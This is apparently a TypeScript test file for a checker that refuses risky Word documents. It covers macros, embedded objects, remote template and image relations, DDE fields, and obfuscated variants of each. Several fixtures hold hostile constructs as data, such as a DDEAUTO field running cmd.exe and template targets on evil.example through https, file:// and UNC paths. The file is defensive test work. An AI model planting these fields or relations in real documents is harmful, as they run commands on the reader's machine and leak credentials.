import { expect, test } from 'vitest';
import { checkFile, refusalOfStart } from './check-file.ts';
import { docx, lockedDocx, WORD, zip } from './files.fixture.ts';

const refusalOf = (bytes: Buffer, name = 'brief.docx') => {
  const checked = checkFile(name, bytes);
  return 'refusal' in checked ? checked.refusal : checked.kind;
};
const TYPES = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const relation = (type: string, more = 'Target="word/part.bin"') =>
  `<Relationships><Relationship Id="r1" Type="${type}" ${more}/></Relationships>`;
const withRelations = (text: string, isDeflated = true) =>
  docx({ name: 'word/_rels/document.xml.rels', text, isDeflated });
const external = (type: string, target: string) =>
  withRelations(relation(`${TYPES}/${type}`, `Target="${target}" TargetMode="External"`));
const field = (xml: string) =>
  docx({ name: 'word/header1.xml', text: `<w:hdr>${xml}</w:hdr>`, isDeflated: true });
const BEGIN = '<w:fldChar w:fldCharType="begin"/>';

test.each([
  ['saved by Word with a password', lockedDocx()],
  ['in a zip with a password', docx({ name: 'word/styles.xml', isEncrypted: true })],
])('a document %s is refused, and the reader reads that it has a password', (_, bytes) => {
  expect(refusalOf(bytes)).toBe('FILE-PASSWORD');
  expect(refusalOfStart('brief.docx', bytes.subarray(0, 4_096))).toBeUndefined();
});

test('an old document that is called docx has no password', () => {
  const old = Buffer.concat([lockedDocx().subarray(0, 4_000), Buffer.alloc(4_000)]);
  expect(refusalOf(old)).toBe('FILE-KIND');
  expect(refusalOf(lockedDocx(), 'brief.pdf')).toBe('FILE-KIND');
});

test.each([
  ['macros', docx({ name: 'word/vbaProject.bin' })],
  ['an embedded object', docx({ name: 'word/embeddings/oleObject1.bin' })],
  ['an embedded spreadsheet', docx({ name: 'word/embeddings/Microsoft_Excel_Sheet.xlsx' })],
  ['a page that is drawn into it', docx({ name: 'word/afchunk.htm' })],
  ['an object under another name', withRelations(relation(`${TYPES}/oleObject`))],
  [
    'an object of the strict format',
    withRelations(relation('http://purl.oclc.org/ooxml/officeDocument/relationships/oleObject')),
  ],
  [
    'macros under another name',
    withRelations(relation('http://schemas.microsoft.com/office/2006/relationships/vbaProject')),
  ],
  ['a document in it', withRelations(relation(`${TYPES}/aFChunk`, 'Target="a.html"'))],
  ['a relation that is not packed', withRelations(relation(`${TYPES}/oleObject`), false)],
  ['a relation with a type in numbers', withRelations(relation(`${TYPES}/ole&#79;bject`))],
  ['a relation in single quotes', withRelations(relation(`${TYPES}/oleObject`).replaceAll('"', "'"))],
  ['a relation with a prefix', withRelations(relation(`${TYPES}/oleObject`).replaceAll('<Rel', '<r:Rel'))],
  [
    'a relation in UTF-16',
    withRelations(`\xff\xfe${Buffer.from(relation(`${TYPES}/oleObject`), 'utf16le').toString('latin1')}`),
  ],
  ['a relation with an entity', withRelations(`<!DOCTYPE x [<!ENTITY y "z">]>${relation('x')}`)],
  ['a template on a site', external('attachedTemplate', 'https://evil.example/a.dotm')],
  ['a template on a file server', external('attachedTemplate', 'file://evil.example/share/a.dotm')],
  [
    'a template on a file server, as Windows writes it',
    external('attachedTemplate', '\\\\evil.example\\share\\a.dotm'),
  ],
  ['an object on a site', external('oleObject', 'https://evil.example/a')],
  ['a picture that is fetched', external('image', 'https://evil.example/a.png')],
  ['a DDE field', field(`${BEGIN}<w:instrText>DDEAUTO c:\\\\cmd.exe "/k calc"</w:instrText>`)],
  [
    'a DDE field in pieces',
    field(
      `${BEGIN}<w:instrText>DD</w:instrText><w:instrText>EAUTO</w:instrText><w:instrText> cmd</w:instrText>`,
    ),
  ],
  [
    'a DDE field after another field',
    field(`${BEGIN}<w:instrText>PAGE</w:instrText>${BEGIN}<w:instrText>DDE cmd</w:instrText>`),
  ],
  ['a simple DDE field', field('<w:fldSimple w:instr=" DDE cmd"/>')],
])('a document with %s is refused', (_, bytes) => {
  expect(refusalOf(bytes)).toBe('FILE-ACTIVE');
});

test.each([
  ['a link', external('hyperlink', 'https://krant.example/')],
  ['a picture of its own', withRelations(relation(`${TYPES}/image`, 'Target="media/image1.png"'))],
  [
    'the template of the computer where it was written',
    external('attachedTemplate', 'file:///C:\\Users\\Jan\\Brief.dotx'),
  ],
  ['a page number', field(`${BEGIN}<w:instrText>PAGE \\* MERGEFORMAT</w:instrText>`)],
  ['the word DDE in its text', field('<w:t>DDE cmd</w:t>')],
  [
    'a link to an address with these letters',
    field(`${BEGIN}<w:instrText>HYPERLINK "https://a.example/added"</w:instrText>`),
  ],
])('a document with %s may be sent', (_, bytes) => {
  expect(refusalOf(bytes)).toBe('docx');
});

test('a part that is not what it says is no document', () => {
  const wrong = { name: 'word/_rels/document.xml.rels', text: relation('x'), isDeflated: true, unpacked: 9 };
  expect(refusalOf(docx(wrong))).toBe('FILE-KIND');
  const large = { name: 'word/large.xml', text: 'x'.repeat(21_000_000), isDeflated: true };
  expect(refusalOf(zip([...WORD, large]))).toBe('FILE-KIND');
});
